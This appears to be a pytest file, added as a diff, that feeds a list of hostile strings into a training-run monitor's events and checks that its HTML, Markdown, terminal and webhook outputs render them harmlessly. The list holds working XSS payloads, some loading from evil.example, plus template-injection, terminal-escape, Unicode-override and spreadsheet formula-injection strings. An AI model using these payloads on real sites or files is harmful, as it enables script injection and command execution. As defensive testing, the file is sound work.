@@ -1,0 +1,258 @@
+"""Text of a corpus or a model that would like to act: through real events into everything an observer shows.
+
+The judges are parsers: html.parser for pages, a CommonMark parser for Markdown, a terminal's rules for what is printed.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+from collections.abc import Callable
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+
+from cvm_translator.observe.alerts import alerts_of_event, alerts_of_status
+from cvm_translator.observe.delivery import build_payload
+from cvm_translator.observe.live import build_view
+from cvm_translator.observe.machine import MachineFigures
+from cvm_translator.observe.monitor import main
+from cvm_translator.observe.report import write_report
+from cvm_translator.observe.status import format_status, read_status
+from cvm_translator.observe.status_report import write_status_report
+from cvm_translator.observe.watch import RunWatch
+from cvm_translator.runs.events import EventWriter, read_events
+from cvm_translator.runs.layout import RunLayout
+
+MARK = "pwned"
+PAYLOADS = [
+    f"<script>{MARK}()</script>",
+    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
+    f"</title></style></textarea></script><script>{MARK}()</script>",
+    f"<img src=x onerror={MARK}()>",
+    f"<svg/onload={MARK}()><animate onbegin={MARK}() attributeName=x dur=1s>",
+    f'"><svg onload="{MARK}()">',
+    f"' onmouseover='{MARK}()' x='",
+    f'" autofocus onfocus="{MARK}()',
+    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
+    f"<a href='javascript:{MARK}()'>x</a>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'><base href=//evil.example>",
+    f"<link rel=stylesheet href=//evil.example/{MARK}.css><style>@import '//evil.example'</style>",
+    f"<form action=//evil.example><input name={MARK}><button formaction=javascript:{MARK}()>",
+    f"<math><mtext></mtext><mglyph><style><img src=x onerror={MARK}()>",
+    f"<!--><img src=x onerror={MARK}()>-->",
+    f"<![CDATA[<script>{MARK}()</script>]]>",
+    f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;script>",
+    "{{ 7 * 191 }} {% include '/etc/passwd' %} ${7*191}",
+    f"[click](javascript:{MARK}()) [x]: http://evil.example",
+    f"![x](http://evil.example/{MARK}.png) <http://evil.example>",
+    f"](http://evil.example) `code` **{MARK}** ~~x~~ | a | b |",
+    f"\n# {MARK}\n\n- {MARK}\n\n```\n{MARK}",
+    f"\n<details open ontoggle={MARK}()>\n",
+    f"\x1b[2J\x1b[H\x1b]0;{MARK}\x07\x1b[31m",
+    f"\x1b]8;;http://evil.example\x1b\\{MARK}\x1b]8;;\x1b\\ \x9b31m \x90q{MARK}\x9c",
+    f"\r\x08\x7f\x00{MARK}\x0b\x0c",
+    f"\u202e{MARK}\u2066 \u200f\u061c \u2028 \u2029 \ufeff \u200b \U000e0041",
+    f"[bold red]{MARK}[/bold red] [link=http://evil.example]x[/link] :smile:",
+    f'=HYPERLINK("http://evil.example","{MARK}") +cmd|\' /C calc\'!A0 @SUM(1) -2',
+    f"<!channel> @everyone <http://evil.example|{MARK}>",
+    f"\ud800 {MARK} \udfff",
+    "A" * 5000,
+]
+"""Scripts, ways out of attributes and elements, templates, Markdown, terminal sequences, direction overrides, cells."""
+
+ELEMENTS = {
+    *("html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "div", "strong", "table", "thead"),
+    *("tbody", "tr", "th", "td", "figure", "img", "figcaption", "ul", "li", "dl", "dt", "dd", "details", "summary"),
+}
+ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "class", "alt", "src", "dir"}
+
+
+class Judge(HTMLParser):
+    """Collects what in a page did not come from its template."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self.text = ""
+        self.num_metas = 0
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        if tag not in ELEMENTS:
+            self.found.append(tag)
+        self.num_metas += tag == "meta"
+        for name, value in attributes:
+            if name not in ATTRIBUTES or name.startswith("on"):
+                self.found.append(f"{tag} {name}")
+            if name == "src" and not (value or "").startswith("data:image/png;base64,"):
+                self.found.append(f"{tag} {name}={value}")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append("comment")
+
+    def handle_pi(self, data: str) -> None:
+        self.found.append("instruction")
+
+    def unknown_decl(self, data: str) -> None:
+        self.found.append("declaration")
+
+
+def judge_page(page: str) -> Judge:
+    judge = Judge()
+    judge.feed(page)
+    judge.close()
+    return judge
+
+
+def judge_markdown(text: str) -> list[str]:
+    """Raw HTML, links and pictures that lead out."""
+    found = []
+    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
+        for part in [token, *(token.children or [])]:
+            target = str(part.attrs.get("href") or part.attrs.get("src") or "")
+            is_ours = part.type == "image" and re.fullmatch(r"plots/\w+\.png", target)
+            is_fold = part.type == "html_block" and re.fullmatch(
+                r"(<details><summary>[^<>]*</summary>|</details>)", part.content.strip()
+            )
+            if (target and not is_ours) or (part.type in ("html_block", "html_inline") and not is_fold):
+                found.append(f"{part.type} {target or part.content!r}")
+    return found
+
+
+def assert_harmless_on_a_terminal(text: str) -> None:
+    assert [character for character in text if character != "\n" and not character.isprintable()] == []
+
+
+@pytest.fixture(params=PAYLOADS, ids=range(len(PAYLOADS)))
+def payload(request: pytest.FixtureRequest) -> str:
+    text: str = request.param
+    return text
+
+
+@pytest.fixture
+def hostile_run(make_run: Callable[..., Path], payload: str) -> Path:
+    """A run whose events hold the payload wherever text can stand."""
+    root = make_run(until="distil", total=100)
+    scores = {"bleu": 30.0, payload: 1.0}
+    with EventWriter(root / "logs" / "events.jsonl") as events:
+        events.write("warning", step=1, code=payload, message=payload)
+        events.write("rollback", step=100, attempt=2, stage="distil", reason=payload, from_step=100, to_step=90,
+                     rollback_number=2, learning_rate_factor=0.5, data_stream=2)  # fmt: skip
+        events.write("validation", step=95, attempt=3, stage="distil", scores=scores, teacher_scores=scores,
+                     quality_score=0.9, retentions=scores, probes={payload: 3, "sentences": 10})  # fmt: skip
+        events.write("verdict", step=95, attempt=3, stage="distil", verdict="degraded", action=payload, reason=payload,
+                     drop=0.1, drop_lower_bound=0.09, margin=0.05, best_step=90)  # fmt: skip
+        events.write("verdict", step=95, attempt=3, stage="distil", verdict=payload, action="keep", reason=payload)
+        events.write("checkpoint", step=95, attempt=3, stage="distil", path=payload, is_best=True, num_bytes=1)
+        events.write("resumed", step=95, attempt=3, stage="distil", exact=False, differences=[payload])
+        events.write("control", step=95, attempt=3, id=payload, action=payload, result=payload)
+        events.write("stage_started", stage=payload)
+        events.write("failed", message=payload)
+    (root / "logs" / "train.log").write_text(f"a line {payload}\n", encoding="utf-8", errors="surrogatepass")
+    return root
+
+
+def test_status_live_view_log_and_webhook(hostile_run: Path, payload: str) -> None:
+    from rich.console import Console
+
+    status = read_status(hostile_run)
+    assert_harmless_on_a_terminal(format_status(status))
+    events = list(read_events(hostile_run / "logs" / "events.jsonl"))
+    alerts = [alert for event in events for alert in alerts_of_event(event)] + alerts_of_status(status)
+    assert {"rollback", "degradation", "inexact_resume", "failed"} <= {alert.name for alert in alerts}
+    for alert in alerts:
+        assert_harmless_on_a_terminal(alert.line())
+        assert "\n" not in alert.line()
+        text = json.dumps(build_payload(alert, status), ensure_ascii=True)
+        assert text.isascii() and text.isprintable()
+        assert not re.search(r"[<>@]", json.loads(text)["text"])
+    watch = RunWatch(RunLayout(hostile_run))
+    watch.poll()
+    console = Console(file=io.StringIO(), width=120, height=60, force_terminal=True, color_system=None)
+    console.print(build_view(watch.status(), watch.history, MachineFigures(), alerts, list(watch.log_lines), 60))
+    shown = console.file.getvalue()  # type: ignore[attr-defined]
+    assert_harmless_on_a_terminal(shown)
+    if "[bold red]" in payload:
+        assert f"[bold red]{MARK}[/bold red]" in shown  # no markup of data is obeyed
+    watch.close()
+
+
+def test_status_report(no_plots: None, hostile_run: Path, payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    main_alerts = hostile_run / "monitor" / "alerts.log"
+    main_alerts.parent.mkdir()
+    main_alerts.write_text(f"t CRITICAL x/y: {payload}\n", encoding="utf-8", errors="surrogatepass")
+    markdown = write_status_report(hostile_run).read_text(encoding="utf-8")
+    page = (hostile_run / "monitor" / "status_report.html").read_text(encoding="utf-8")
+    plain = judge_page(page)
+    assert plain.found == [] and plain.num_metas == 5
+    assert judge_markdown(markdown) == []
+    assert_harmless_on_a_terminal(markdown)
+    assert_harmless_on_a_terminal(page)
+    assert "1337" not in page
+    if MARK in payload:
+        assert MARK in plain.text and MARK in markdown  # shown, not swallowed
+
+
+def _hostile_report(make_final: Any, payload: str) -> dict[str, Any]:
+    report: dict[str, Any] = make_final
+    sample = dict.fromkeys(("source", "reference", "teacher", "student"), payload)
+    report["samples"], report["worst"] = [sample], [sample | {"score": 1.0}]
+    report["gate"]["failures"] = [payload]
+    report["rollbacks"][0]["reason"] = payload
+    report["preflight"]["warnings"] = [payload]
+    return report
+
+
+def test_comparison_report(no_plots: None, hostile_run: Path, payload: str) -> None:
+    path = hostile_run / "reports" / "final_report.json"
+    path.write_text(json.dumps(_hostile_report(json.loads(path.read_text()), payload)))
+    markdown = Path(write_report(hostile_run)).with_suffix(".md").read_text(encoding="utf-8")
+    page = (hostile_run / "reports" / "comparison_report.html").read_text(encoding="utf-8")
+    plain = judge_page(page)
+    assert plain.found == [] and plain.num_metas == 4
+    assert judge_markdown(markdown) == []
+    assert_harmless_on_a_terminal(markdown)
+    assert_harmless_on_a_terminal(page)
+    assert "1337" not in page and (MARK not in payload or MARK in plain.text)
+
+
+def test_a_page_forbids_what_it_does_not_hold(no_plots: None, make_run: Callable[..., Path]) -> None:
+    write_status_report(make_run())
+    page = next(Path(make_run("again").parent).rglob("status_report.html")).read_text()
+    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in page
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_what_the_monitor_prints(
+    as_json: bool, no_plots: None, make_run: Callable[..., Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """All payloads at once, by the whole monitor."""
+    root = make_run(until="distil", total=100)
+    with EventWriter(root / "logs" / "events.jsonl") as events:
+        for text in PAYLOADS:
+            events.write("warning", step=1, code=text, message=text)
+            events.write("rollback", step=5, stage="distil", reason=text, from_step=5, to_step=4, rollback_number=1)
+        events.write("failed", message="".join(PAYLOADS))
+    assert main(root, as_json=as_json, refresh_seconds=0.05) == 4
+    out, err = capsys.readouterr()
+    assert_harmless_on_a_terminal(out + err)
+    assert_harmless_on_a_terminal((root / "monitor" / "alerts.log").read_text())
+
+
+@pytest.mark.parametrize(
+    "text", ["<script>x()</script>", "<p onclick=x()>", "<b>", "<img src=http://e/x>", "<!-- x -->", "<?x?>"]
+)
+def test_the_judge_of_pages_finds_what_is_foreign(text: str) -> None:
+    assert judge_page(f"<p>{text}</p>").found != []
+
+
+@pytest.mark.parametrize("text", ["<b>x</b>", "[a](http://e)", "![a](http://e/x.png)", "<script>", "<http://e.org>"])
+def test_the_judge_of_markdown_finds_what_is_foreign(text: str) -> None:
+    assert judge_markdown(text) != []
